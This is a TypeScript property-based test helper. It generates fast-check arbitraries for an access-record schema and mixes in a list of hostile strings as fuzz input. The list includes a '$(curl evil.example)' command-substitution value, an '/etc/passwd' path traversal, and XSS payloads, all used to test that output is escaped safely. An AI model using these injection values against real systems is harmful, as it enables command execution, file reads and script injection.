import fc from 'fast-check';
import type * as z from 'zod/mini';
import { AccessRecord } from '../../src/model/access-record.ts';
import { definitionOf } from './schema-walk.ts';

/** Words that mean something to a shell, to Markdown, to HTML, to JSON or to a reader of logs. */
const HOSTILE = [
  '../../etc/passwd',
  '<img src=x onerror=alert(1)>',
  '[x](javascript:alert(1))',
  '| a | b |',
  '$(curl evil.example)',
  '::error::no',
  '"quoted", {"json": true}',
  'line\nbreak',
  'https://user:pass@example.com',
  '\u202eabc',
  '__proto__',
  'a~1b/c',
];

let made: fc.Arbitrary<AccessRecord> | undefined;

/** Any valid access record, made by walking the schema itself, so that no field can be forgotten. */
export function arbitraryRecord(): fc.Arbitrary<AccessRecord> {
  made ??= arbitraryOf(AccessRecord).map((value) => value as AccessRecord);
  return made;
}

/** One of them, always the same for a seed. */
export function recordOfSeed(seed: number): AccessRecord {
  const [record] = fc.sample(arbitraryRecord(), { numRuns: 1, seed });
  if (!record) throw new Error('fast-check gave no sample');
  return record;
}

/** Any value that a schema of the record accepts. */
export function arbitraryOf(schema: z.core.$ZodType): fc.Arbitrary<unknown> {
  const { type, shape, element, innerType, valueType, entries, values } = definitionOf(schema);
  switch (type) {
    case 'optional':
      return innerType ? arbitraryOf(innerType) : fc.constant(undefined);
    case 'object':
      return arbitraryObject(shape ?? {});
    case 'array':
      return element ? fc.array(arbitraryOf(element), { maxLength: 3 }) : fc.constant([]);
    case 'record':
      return valueType ? fc.dictionary(arbitraryKey(), arbitraryOf(valueType), { maxKeys: 3 }) : fc.constant({});
    case 'enum':
      return fc.constantFrom(...Object.values(entries ?? {}));
    case 'literal':
      return fc.constantFrom(...(values ?? []));
    case 'boolean':
      return fc.boolean();
    case 'number':
      return fc.oneof(fc.integer(), fc.double({ noNaN: true, noDefaultInfinity: true }));
    case 'string':
      return arbitraryText(schema);
    case 'unknown':
      return fc.jsonValue({ maxDepth: 2 });
    default:
      throw new Error(`The record has a type that is not known here: ${type}`);
  }
}

function arbitraryObject(shape: Readonly<Record<string, z.core.$ZodType>>): fc.Arbitrary<unknown> {
  const required = Object.keys(shape).filter((key) => definitionOf(shape[key] as z.core.$ZodType).type !== 'optional');
  const members = Object.fromEntries(Object.entries(shape).map(([key, member]) => [key, arbitraryOf(member)]));
  return fc.record(members, { requiredKeys: required, noNullPrototype: true });
}

function arbitraryKey(): fc.Arbitrary<string> {
  return fc
    .oneof(fc.constantFrom('contents', 'id-token', 'a/b', 'm~n', 'constructor'), fc.string({ maxLength: 8 }))
    .filter((key) => key !== '__proto__');
}

function arbitraryText(schema: z.core.$ZodType): fc.Arbitrary<string> {
  const { format, checks = [] } = definitionOf(schema);
  if (format === 'datetime') {
    const range = { min: new Date('2020-01-01T00:00:00Z'), max: new Date('2100-01-01T00:00:00Z'), noInvalidDate: true };
    return fc.date(range).map((date) => date.toISOString());
  }
  const rules = checks.map((check) => check._zod.def);
  const pattern = rules.find((rule) => rule.pattern)?.pattern;
  const minLength = rules.find((rule) => rule.check === 'min_length')?.minimum ?? 0;
  const longest = rules.find((rule) => rule.check === 'max_length')?.maximum ?? 1_000;
  if (pattern) return fc.stringMatching(pattern, { size: 'small' }).filter((text) => text.length <= longest);
  const free = fc.string({ minLength, maxLength: Math.min(longest, 20) });
  return fc
    .oneof({ weight: 4, arbitrary: free }, fc.constantFrom(...HOSTILE))
    .map((text) => text.slice(0, longest).toWellFormed());
}
